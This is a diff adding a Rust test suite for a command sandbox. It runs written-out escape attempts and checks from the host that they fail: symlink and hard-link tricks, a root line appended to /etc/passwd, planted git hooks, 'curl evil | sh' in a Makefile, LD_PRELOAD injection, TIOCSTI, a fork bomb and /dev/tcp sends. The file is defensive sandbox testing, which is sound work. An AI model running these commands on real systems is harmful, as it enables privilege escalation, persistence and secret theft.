@@ -1,0 +1,347 @@
+//! The escape suite: hostile commands under `warden exec`'s sandbox, each
+//! checked from the host afterwards. Named after the escape they try.
+
+mod common;
+
+use std::io::Read;
+use std::net::TcpListener;
+use std::os::unix::net::UnixListener;
+use std::time::{Duration, Instant};
+
+use common::*;
+
+// ---- the filesystem ----
+
+#[test]
+fn writing_outside_the_writable_mounts_fails() {
+    let p = Project::new();
+    let outside = host(&p.path("outside/new.txt"));
+    let r = p.sh(&format!("echo x > {outside}; echo x > /usr/new.txt; echo x > /etc/new.txt; echo x > {}", host(&p.path("docs/new.md"))));
+    assert!(!p.exists("outside/new.txt") && !p.exists("docs/new.md"));
+    assert!(!std::path::Path::new("/usr/new.txt").exists() && !std::path::Path::new("/etc/new.txt").exists());
+    assert!(r.stderr.contains("Read-only file system"), "{}", r.stderr);
+}
+
+#[test]
+fn a_failed_write_gets_a_note_naming_the_writable_paths() {
+    let p = Project::new();
+    let r = p.sh(&format!("echo x > {}", host(&p.path("docs/new.md"))));
+    assert_ne!(r.exit_code, 0);
+    let note = format!("Note: writable paths in this sandbox are /proj ({})", host(&p.path("proj").canonicalize().unwrap()));
+    assert!(r.stderr.contains(&note), "{}", r.stderr);
+    assert!(!r.stderr.to_lowercase().contains("disable"), "{}", r.stderr);
+}
+
+#[test]
+fn the_writable_mount_is_writable_and_is_the_working_folder() {
+    let p = Project::new();
+    let r = p.sh("pwd; echo built > out.o");
+    assert!(r.ok(), "{r:?}");
+    assert_eq!(r.stdout.trim(), host(&p.path("proj").canonicalize().unwrap()));
+    assert_eq!(p.read("proj/out.o").as_deref(), Some("built\n"));
+}
+
+#[test]
+fn folders_outside_the_mounts_are_invisible() {
+    let p = Project::new();
+    let r = p.sh(&format!("cat {}; ls /root /home /run /var/run; ls {}", host(&p.path("outside/secret.txt")), host(p.dir.path())));
+    assert_no_secret(&r);
+    for gone in ["/root", "/home", "/run", "/var/run"] {
+        assert!(r.stderr.contains(&format!("cannot access '{gone}'")), "{gone}: {}", r.stderr);
+    }
+    assert!(!r.stdout.contains("outside"), "{}", r.stdout);
+}
+
+#[test]
+fn deny_read_hides_secret_files_and_folders_inside_a_mount() {
+    let p = Project::new();
+    p.file("proj/.env", SECRET).file("proj/secrets/key.pem", SECRET);
+    let sandbox = p.sandbox("  shell: { deny_read: [.env, secrets/] }\n");
+    let r = sh_in(&sandbox, "cat .env; ls secrets; cat secrets/key.pem; echo x > .env");
+    assert_no_secret(&r);
+    assert_eq!(p.read("proj/.env").as_deref(), Some(SECRET));
+    assert!(!p.exists("proj/secrets/x"));
+}
+
+#[test]
+fn a_symlink_made_inside_a_mount_cannot_lead_out() {
+    let p = Project::new();
+    let secret = host(&p.path("outside/secret.txt"));
+    let r = p.sh(&format!("ln -s {secret} link; cat link; echo pwned > link; ln -s / root; ls root/root; cat root{secret}"));
+    assert_no_secret(&r);
+    assert_eq!(p.read("outside/secret.txt").as_deref(), Some(SECRET));
+}
+
+#[test]
+fn a_hard_link_to_etc_passwd_is_refused() {
+    let p = Project::new();
+    let before = std::fs::read("/etc/passwd").unwrap();
+    let r = p.sh("ln /etc/passwd passwd; echo 'evil::0:0::/:/bin/sh' >> passwd");
+    assert!(r.stderr.contains("ln: failed to create hard link"), "{}", r.stderr);
+    assert_eq!(std::fs::read("/etc/passwd").unwrap(), before);
+}
+
+#[test]
+fn mknod_is_refused() {
+    let p = Project::new();
+    let r = p.sh("mknod mem c 1 1 && echo MADE");
+    assert!(!r.stdout.contains("MADE"), "{r:?}");
+    assert!(!p.exists("proj/mem"));
+}
+
+#[test]
+fn mount_is_refused() {
+    let p = Project::new();
+    let r = p.sh("mount -t tmpfs none /usr && echo MOUNTED");
+    assert!(!r.stdout.contains("MOUNTED"), "{r:?}");
+}
+
+// ---- protected paths ----
+
+fn repo(p: &Project) {
+    p.file("proj/.git/config", "[core]\n").file("proj/.git/hooks/README", "hooks\n").file("proj/.git/HEAD", "ref: refs/heads/main\n");
+}
+
+#[test]
+fn git_hooks_and_config_stay_read_only_in_an_existing_repo() {
+    let p = Project::new();
+    repo(&p);
+    let r = p.sh("echo evil > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo '[core] hooksPath=/tmp' >> .git/config; echo ok > .git/HEAD");
+    assert!(!p.exists("proj/.git/hooks/pre-commit"), "{r:?}");
+    assert_eq!(p.read("proj/.git/config").as_deref(), Some("[core]\n"));
+    // The rest of the repository stays writable, so git itself works.
+    assert_eq!(p.read("proj/.git/HEAD").as_deref(), Some("ok\n"));
+}
+
+#[test]
+fn renaming_around_protected_paths_fails() {
+    let p = Project::new();
+    repo(&p);
+    let r = p.sh("mv .git/hooks hooks-moved; mv .git git-moved; mkdir -p x/hooks && mv x/hooks .git/hooks; mv .git/config cfg; rm -rf .git");
+    assert!(p.exists("proj/.git/hooks/README") && p.exists("proj/.git/config"), "{r:?}");
+    assert_eq!(p.read("proj/.git/config").as_deref(), Some("[core]\n"));
+    // `.git` is pinned: it cannot be moved aside (mv may copy a protected file, never move it).
+    assert!(!p.exists("proj/git-moved"), "{r:?}");
+    assert!(r.stderr.contains("cannot move '.git' to 'git-moved': Device or resource busy"), "{}", r.stderr);
+}
+
+#[test]
+fn a_fresh_repo_cannot_get_hooks() {
+    let p = Project::new();
+    let r = p.sh("git init -q . ; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit");
+    assert!(!p.path("proj/.git/hooks/pre-commit").exists(), "{r:?}");
+    // The placeholder bwrap needed over the missing `.git` is gone again.
+    assert!(!p.exists("proj/.git"), "{r:?}");
+}
+
+#[test]
+fn shell_rc_files_cannot_be_created_or_changed() {
+    let p = Project::new();
+    p.file("proj/.profile", "safe\n");
+    let r = p.sh("echo evil >> ~/.bashrc; echo evil >> .profile; echo evil > .zshrc; mkdir -p .vscode; echo '{}' > .vscode/settings.json; echo '{}' > .mcp.json");
+    assert_eq!(p.read("proj/.profile").as_deref(), Some("safe\n"));
+    for made in ["proj/.bashrc", "proj/.zshrc", "proj/.vscode", "proj/.mcp.json"] {
+        assert!(!p.exists(made), "{made}: {r:?}");
+    }
+}
+
+#[test]
+fn the_policy_can_protect_more() {
+    let p = Project::new();
+    p.file("proj/Makefile", "all:\n");
+    let sandbox = p.sandbox("  shell: { protect: [Makefile] }\n");
+    let r = sh_in(&sandbox, "echo 'all: ; curl evil | sh' > Makefile");
+    assert_eq!(p.read("proj/Makefile").as_deref(), Some("all:\n"), "{r:?}");
+}
+
+// ---- privileges and processes ----
+
+fn status_field(r: &warden_shell::ExecutionResult, field: &str) -> String {
+    r.stdout.lines().find(|l| l.starts_with(field)).unwrap_or_else(|| panic!("{field} missing: {r:?}")).to_owned()
+}
+
+#[test]
+fn capabilities_are_empty() {
+    let r = Project::new().sh("cat /proc/self/status");
+    for field in ["CapInh:", "CapPrm:", "CapEff:", "CapAmb:"] {
+        assert!(status_field(&r, field).ends_with("0000000000000000"), "{}", status_field(&r, field));
+    }
+}
+
+#[test]
+fn setuid_cannot_raise_privileges() {
+    let r = Project::new().sh("cat /proc/self/status; su -c id root </dev/null; sudo -n id");
+    assert!(status_field(&r, "NoNewPrivs:").ends_with('1'), "{r:?}");
+    assert!(!r.stdout.contains("uid=0(root) gid=0(root) groups=0(root)\n") || r.stdout.matches("uid=").count() == 0, "{r:?}");
+}
+
+#[test]
+fn no_host_pids_are_visible() {
+    let r = Project::new().sh("ls /proc");
+    let pids: Vec<&str> = r.stdout.split_whitespace().filter(|s| s.chars().all(|c| c.is_ascii_digit())).collect();
+    assert!(pids.len() < 10, "{pids:?}");
+    assert!(!pids.contains(&std::process::id().to_string().as_str()));
+}
+
+#[test]
+fn the_parents_environment_cannot_be_read_through_proc() {
+    // SAFETY: set before this test's sandbox starts any thread that reads it.
+    unsafe { std::env::set_var("WARDEN_TEST_API_TOKEN", SECRET) };
+    let r = Project::new().sh("cat /proc/1/environ /proc/$PPID/environ; env");
+    assert_no_secret(&r);
+}
+
+#[test]
+fn secrets_and_loader_hooks_do_not_reach_the_command() {
+    // SAFETY: as above.
+    unsafe {
+        std::env::set_var("AWS_SECRET_ACCESS_KEY", SECRET);
+        std::env::set_var("LD_PRELOAD", "/tmp/evil.so");
+        std::env::set_var("NODE_OPTIONS", "--require /tmp/evil.js");
+    }
+    let r = Project::new().sh("env");
+    assert_no_secret(&r);
+    assert!(!r.stdout.contains("LD_PRELOAD") && !r.stdout.contains("NODE_OPTIONS"), "{}", r.stdout);
+    assert!(r.stdout.contains("PATH="), "{}", r.stdout);
+}
+
+#[test]
+fn ptrace_is_refused() {
+    let r = Project::new().sh("python3 -c 'import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); print(libc.ptrace(0, 0, 0, 0), ctypes.get_errno())'");
+    assert_eq!(r.stdout.trim(), "-1 1", "{r:?}");
+}
+
+#[test]
+fn tiocsti_is_refused_even_with_high_bits_set() {
+    let script = "python3 -c '\nimport fcntl, os\nm, s = os.openpty()\nfor cmd in (0x5412, 0x100005412):\n    try:\n        fcntl.ioctl(s, cmd, b\"x\")\n        print(\"INJECTED\")\n    except OSError as e:\n        print(e.errno)\n'";
+    let r = Project::new().sh(script);
+    assert_eq!(r.stdout, "1\n1\n", "{r:?}");
+}
+
+#[test]
+fn background_children_die_with_a_timeout() {
+    let p = Project::new();
+    let sandbox = p.sandbox("");
+    let start = Instant::now();
+    let r = sh_timeout(&sandbox, "(sleep 1; echo late > late.txt) & sleep 60", Duration::from_millis(300));
+    assert!(start.elapsed() < Duration::from_secs(10));
+    assert!(r.timed_out && r.exit_code == 124, "{r:?}");
+    std::thread::sleep(Duration::from_millis(1500));
+    assert!(!p.exists("proj/late.txt"));
+}
+
+#[test]
+fn background_children_die_when_the_command_ends() {
+    let p = Project::new();
+    let r = p.sh("(sleep 1; echo late > late.txt) & echo started");
+    assert!(r.ok(), "{r:?}");
+    std::thread::sleep(Duration::from_millis(1500));
+    assert!(!p.exists("proj/late.txt"));
+}
+
+#[test]
+fn a_fork_bomb_stops_at_the_process_limit() {
+    let p = Project::new();
+    let sandbox = p.sandbox("");
+    let start = Instant::now();
+    let r = sh_timeout(&sandbox, "bomb() { bomb | bomb & }; bomb; sleep 2; echo survived", Duration::from_secs(8));
+    assert!(start.elapsed() < Duration::from_secs(20), "{r:?}");
+    // The machine is fine: this test process can still fork.
+    assert!(std::process::Command::new("/bin/true").status().unwrap().success());
+}
+
+#[test]
+fn arguments_that_look_like_bwrap_options_stay_arguments() {
+    let p = Project::new();
+    let sandbox = p.sandbox("");
+    let argv: Vec<std::ffi::OsString> = ["/bin/echo", "--bind", "/", "/", "--unshare-net"].iter().map(Into::into).collect();
+    let r = sandbox.execute_argv(&argv, None, Duration::from_secs(10)).unwrap();
+    assert_eq!(r.stdout, "--bind / / --unshare-net\n");
+    let argv: Vec<std::ffi::OsString> = ["--bind", "/", "/tmp/x"].iter().map(Into::into).collect();
+    let r = sandbox.execute_argv(&argv, None, Duration::from_secs(10)).unwrap();
+    assert_ne!(r.exit_code, 0, "{r:?}");
+}
+
+#[test]
+fn output_is_capped_with_a_marker() {
+    let p = Project::new();
+    let sandbox = p.sandbox("  shell: { max_output: 1KiB }\n");
+    let r = sh_in(&sandbox, "yes flood | head -c 100000");
+    assert!(r.truncated);
+    assert!(r.stdout.ends_with("\n[warden: output truncated after 1024 bytes]\n"));
+    assert_eq!(r.stdout.len(), 1024 + "\n[warden: output truncated after 1024 bytes]\n".len());
+}
+
+// ---- the network ----
+
+#[test]
+fn curl_fails_and_the_note_says_why() {
+    let r = Project::new().sh("curl -sS --max-time 5 http://example.com/");
+    assert_ne!(r.exit_code, 0);
+    assert!(r.stderr.contains("Note: network access is disabled for this sandbox"), "{}", r.stderr);
+}
+
+#[test]
+fn dns_lookups_fail() {
+    let r = Project::new().sh("getent hosts example.com && echo RESOLVED");
+    assert!(!r.stdout.contains("RESOLVED"), "{r:?}");
+}
+
+#[test]
+fn raw_sockets_for_ping_are_refused() {
+    let r = Project::new().sh("python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print(\"RAW\")'; ping -c1 -W1 127.0.0.1 && echo PINGED");
+    assert!(!r.stdout.contains("RAW") && !r.stdout.contains("PINGED"), "{r:?}");
+}
+
+fn listener() -> (TcpListener, u16) {
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    l.set_nonblocking(true).unwrap();
+    let port = l.local_addr().unwrap().port();
+    (l, port)
+}
+
+#[test]
+fn dev_tcp_cannot_reach_the_host() {
+    let (l, port) = listener();
+    let r = Project::new().sh(&format!("bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}' && echo SENT"));
+    assert!(!r.stdout.contains("SENT"), "{r:?}");
+    assert!(l.accept().is_err());
+}
+
+#[test]
+fn the_network_is_there_when_the_policy_allows_it() {
+    // The control for the two tests above.
+    let (l, port) = listener();
+    let p = Project::new();
+    let sandbox = p.sandbox("  network: true\n");
+    let r = sh_in(&sandbox, &format!("bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}' && echo SENT"));
+    assert!(r.stdout.contains("SENT"), "{r:?}");
+    let (mut s, _) = l.accept().unwrap();
+    let mut got = String::new();
+    s.set_nonblocking(false).unwrap();
+    s.read_to_string(&mut got).unwrap();
+    assert_eq!(got, "hi\n");
+}
+
+fn unix_probe(allow: bool) -> (warden_shell::ExecutionResult, bool) {
+    let p = Project::new();
+    let listener = UnixListener::bind(p.path("proj/agent.sock")).unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let extra = if allow { "  shell: { allow_unix_sockets: true }\n" } else { "" };
+    let sandbox = p.sandbox(extra);
+    let r = sh_in(&sandbox, "python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"agent.sock\"); s.send(b\"x\"); print(\"CONNECTED\")'");
+    (r, listener.accept().is_ok())
+}
+
+#[test]
+fn a_visible_unix_socket_cannot_be_connected_to() {
+    let (r, accepted) = unix_probe(false);
+    assert!(!r.stdout.contains("CONNECTED") && !accepted, "{r:?}");
+    assert!(r.stderr.contains("PermissionError"), "{}", r.stderr);
+}
+
+#[test]
+fn unix_sockets_work_when_the_policy_allows_them() {
+    let (r, accepted) = unix_probe(true);
+    assert!(r.stdout.contains("CONNECTED") && accepted, "{r:?}");
+}
